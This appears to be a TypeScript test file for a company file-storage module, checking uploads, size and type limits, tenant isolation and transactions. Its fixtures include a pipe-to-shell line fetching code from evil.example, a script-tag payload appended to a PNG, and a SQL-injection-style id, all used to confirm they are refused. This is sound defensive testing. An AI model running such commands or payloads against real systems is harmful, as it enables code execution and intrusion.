import { createHash } from "node:crypto";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openTestDatabase } from "../../tests/support/database";
import { files } from "../db/schema";
import { ApiError } from "../errors";
import { SIZE_LIMITS } from "./file-type";
import { PNG } from "pngjs";
import { PNG_BYTES } from "../../tests/support/files";
import { createDatabaseFileStorage, type FileStorage } from "./storage";

const COMPANY = "company-storage-a";
const OTHER_COMPANY = "company-storage-b";

const PNG_HEADER = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
/** A PNG signature followed by every byte value, so bytea round trips are checked byte for byte. */
const png = new Uint8Array([...PNG_HEADER, ...Array.from({ length: 256 }, (_, i) => i), 0, 0, 0xff]);
const pdf = new Uint8Array(Buffer.from("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n%%EOF\n", "latin1"));
const script = new Uint8Array(Buffer.from("#!/bin/sh\ncurl http://evil.example | sh\n"));

const sha256 = (bytes: Uint8Array) => createHash("sha256").update(bytes).digest("hex");

/** The ApiError a call rejects with (fails the test when it resolves or throws something else). */
async function apiErrorOf(promise: Promise<unknown>): Promise<ApiError> {
  const error = await promise.then(
    () => expect.fail("expected the call to be refused"),
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(ApiError);
  return error as ApiError;
}

async function expectNotFound(promise: Promise<unknown>) {
  const error = await apiErrorOf(promise);
  expect({ status: error.status, code: error.code, message: error.message }).toEqual({
    status: 404,
    code: "not_found",
    message: "ファイルが見つかりません。",
  });
}

let handle: Awaited<ReturnType<typeof openTestDatabase>>;
let storage: FileStorage;

beforeAll(async () => {
  handle = await openTestDatabase();
  storage = createDatabaseFileStorage(handle.db);
});

afterAll(async () => {
  await handle?.close();
});

describe("createDatabaseFileStorage", () => {
  it("saves a document and reads back identical bytes with its sha256 and detected type", async () => {
    const saved = await storage.save({ companyUniqueCode: COMPANY, purpose: "document", bytes: png });
    expect(saved).toEqual({
      id: expect.stringMatching(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/),
      companyUniqueCode: COMPANY,
      purpose: "document",
      contentType: "image/png",
      size: png.byteLength,
      sha256: sha256(png),
      createdAt: expect.any(Date),
    });

    const { file, bytes } = await storage.read(COMPANY, saved.id);
    expect(file).toEqual(saved);
    expect(bytes).toBeInstanceOf(Uint8Array);
    expect(Buffer.from(bytes).equals(Buffer.from(png))).toBe(true);
    expect(sha256(bytes)).toBe(saved.sha256);

    const [row] = await handle.db.select({ storage: files.storage, storageKey: files.storageKey }).from(files).where(eq(files.id, saved.id));
    expect(row).toEqual({ storage: "database", storageKey: null });
  });

  it("stores only the bytes of a Uint8Array view, not its whole backing buffer", async () => {
    const backing = new Uint8Array([1, 2, 3, ...png, 4, 5]);
    const view = backing.subarray(3, 3 + png.byteLength);
    const saved = await storage.save({ companyUniqueCode: COMPANY, purpose: "document", bytes: view });
    expect(saved.size).toBe(png.byteLength);
    const { bytes } = await storage.read(COMPANY, saved.id);
    expect(Buffer.from(bytes).equals(Buffer.from(png))).toBe(true);
  });

  it("refuses a file over the image limit with 413 before looking at it", async () => {
    const oversize = new Uint8Array(SIZE_LIMITS.image + 1);
    oversize.set(PNG_HEADER);
    const error = await apiErrorOf(storage.save({ companyUniqueCode: COMPANY, purpose: "logo", bytes: oversize }));
    expect({ status: error.status, code: error.code }).toEqual({ status: 413, code: "payload_too_large" });
  });

  it("accepts a document of exactly 20 MB", async () => {
    const limit = new Uint8Array(SIZE_LIMITS.document);
    limit.set(pdf);
    const saved = await storage.save({ companyUniqueCode: COMPANY, purpose: "document", bytes: limit });
    expect(saved.size).toBe(SIZE_LIMITS.document);
    await storage.remove(COMPANY, saved.id);
  });

  it("decodes a logo and keeps it written anew: the same pixels, nothing after them", async () => {
    const withTrailer = new Uint8Array([...PNG_BYTES, ...Buffer.from("<script>alert(1)</script>")]);
    const saved = await storage.save({ companyUniqueCode: COMPANY, purpose: "logo", bytes: withTrailer });
    expect(saved).toMatchObject({ purpose: "logo", contentType: "image/png" });
    const { bytes } = await storage.read(COMPANY, saved.id);
    expect(Buffer.from(bytes).includes("script")).toBe(false);
    expect(PNG.sync.read(Buffer.from(bytes)).data).toEqual(PNG.sync.read(PNG_BYTES).data);
  });

  it.each([
    ["junk after a PNG signature", png, "画像を読み取れませんでした。壊れていない画像を選んでください。"],
    ["a JPEG signature and nothing else", new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]), "画像を読み取れませんでした。壊れていない画像を選んでください。"],
    ["a PNG whose header claims 100,000 × 100,000 pixels", (() => {
      const claim = Buffer.from(PNG_BYTES);
      claim.writeUInt32BE(100_000, 16);
      claim.writeUInt32BE(100_000, 20);
      return claim;
    })(), "画像が大きすぎます。縦横4000ピクセルまでの画像を選んでください。"],
  ])("refuses %s as a logo with 415, and keeps nothing", async (_case, bytes, message) => {
    const error = await apiErrorOf(storage.save({ companyUniqueCode: COMPANY, purpose: "logo", bytes }));
    expect({ status: error.status, message: error.message }).toEqual({ status: 415, message });
  });

  it("refuses a script uploaded as a logo with 415", async () => {
    const error = await apiErrorOf(storage.save({ companyUniqueCode: COMPANY, purpose: "logo", bytes: script }));
    expect({ status: error.status, code: error.code, message: error.message }).toEqual({
      status: 415,
      code: "unsupported_media_type",
      message: "対応していないファイル形式です。PNG、JPEG、GIFの画像を選んでください。",
    });
  });

  it("refuses an empty file with 415", async () => {
    const error = await apiErrorOf(storage.save({ companyUniqueCode: COMPANY, purpose: "document", bytes: new Uint8Array() }));
    expect({ status: error.status, code: error.code, message: error.message }).toEqual({
      status: 415,
      code: "unsupported_media_type",
      message: "対応していないファイル形式です。PDF、JPEG、PNG、またはデジタルインボイス（JP PINTのXML）のファイルを選んでください。",
    });
  });

  it("refuses a PDF as a stamp with 415 but accepts it as a document", async () => {
    const error = await apiErrorOf(storage.save({ companyUniqueCode: COMPANY, purpose: "stamp", bytes: pdf }));
    expect({ status: error.status, code: error.code }).toEqual({ status: 415, code: "unsupported_media_type" });

    const saved = await storage.save({ companyUniqueCode: COMPANY, purpose: "document", bytes: pdf });
    expect(saved).toMatchObject({ purpose: "document", contentType: "application/pdf", size: pdf.byteLength, sha256: sha256(pdf) });
    const { bytes } = await storage.read(COMPANY, saved.id);
    expect(Buffer.from(bytes).equals(Buffer.from(pdf))).toBe(true);
  });

  it("writes nothing for a refused file", async () => {
    const before = await handle.db.select({ id: files.id }).from(files);
    await apiErrorOf(storage.save({ companyUniqueCode: COMPANY, purpose: "logo", bytes: script }));
    await apiErrorOf(storage.save({ companyUniqueCode: COMPANY, purpose: "stamp", bytes: pdf }));
    expect(await handle.db.select({ id: files.id }).from(files)).toHaveLength(before.length);
  });

  it("answers 404 to another company's read and remove, and keeps the file", async () => {
    const saved = await storage.save({ companyUniqueCode: COMPANY, purpose: "logo", bytes: PNG_BYTES });
    await expectNotFound(storage.read(OTHER_COMPANY, saved.id));
    await expectNotFound(storage.remove(OTHER_COMPANY, saved.id));
    expect((await storage.read(COMPANY, saved.id)).file.id).toBe(saved.id);
  });

  it("answers 404 to a malformed or unknown id, just like to a foreign one", async () => {
    for (const id of ["not-a-uuid", "", "1", "' OR 1=1 --", "00000000-0000-0000-0000-00000000000g", "{00000000-0000-0000-0000-000000000000}"]) {
      await expectNotFound(storage.read(COMPANY, id));
      await expectNotFound(storage.remove(COMPANY, id));
    }
    await expectNotFound(storage.read(COMPANY, "00000000-0000-4000-8000-000000000000"));
    await expectNotFound(storage.remove(COMPANY, "00000000-0000-4000-8000-000000000000"));
  });

  it("answers 404 to a read after remove, and to a second remove", async () => {
    const saved = await storage.save({ companyUniqueCode: COMPANY, purpose: "stamp", bytes: PNG_BYTES });
    await storage.remove(COMPANY, saved.id);
    await expectNotFound(storage.read(COMPANY, saved.id));
    await expectNotFound(storage.remove(COMPANY, saved.id));
  });

  it("saves and removes inside a caller's transaction", async () => {
    const rollback = new Error("rollback");
    let savedId = "";
    await expect(
      handle.db.transaction(async (tx) => {
        savedId = (await storage.save({ companyUniqueCode: COMPANY, purpose: "logo", bytes: PNG_BYTES }, tx)).id;
        throw rollback;
      }),
    ).rejects.toBe(rollback);
    await expectNotFound(storage.read(COMPANY, savedId));

    const kept = await handle.db.transaction((tx) => storage.save({ companyUniqueCode: COMPANY, purpose: "logo", bytes: PNG_BYTES }, tx));
    expect((await storage.read(COMPANY, kept.id)).file).toEqual(kept);
    await handle.db.transaction((tx) => storage.remove(COMPANY, kept.id, tx));
    await expectNotFound(storage.read(COMPANY, kept.id));
  });
});
